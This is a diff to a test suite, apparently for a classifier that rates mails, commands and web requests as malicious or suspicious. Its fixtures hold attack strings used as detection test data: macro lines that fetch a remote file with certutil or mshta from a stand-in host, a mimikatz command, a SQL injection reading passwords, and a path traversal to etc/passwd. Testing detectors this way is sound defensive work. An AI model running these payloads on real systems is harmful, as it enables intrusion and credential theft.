@@ -68,7 +68,7 @@ describe('rules on mails', () => {
     expect(carried.classification).toBe('malicious');
     const extracted = await judge({
       sender: 'a@one.test',
-      attachments: [{ content: 'AutoOpen: certutil -urlcache -f http://one.test/x' }],
+      attachments: [{ content: 'AutoOpen: mshta http://one.test/x' }],
     });
     expect(extracted.classification).toBe('malicious');
     const ran = await judge({ mail: { sender: 'a@one.test', body }, command: 'mimikatz.exe' });
@@ -304,8 +304,8 @@ describe('rules on machines, accounts and servers', () => {
       { uri: "/item?id=1' UNION SELECT password FROM users--", status: 200 },
     ],
     [
-      'malicious',
-      'an attack that the firewall names',
+      'suspicious',
+      'an attack that the firewall stopped',
       { rule: 'Path traversal', uri: '/a?f=..%2f..%2fetc/passwd', action: 'blocked' },
     ],
     [
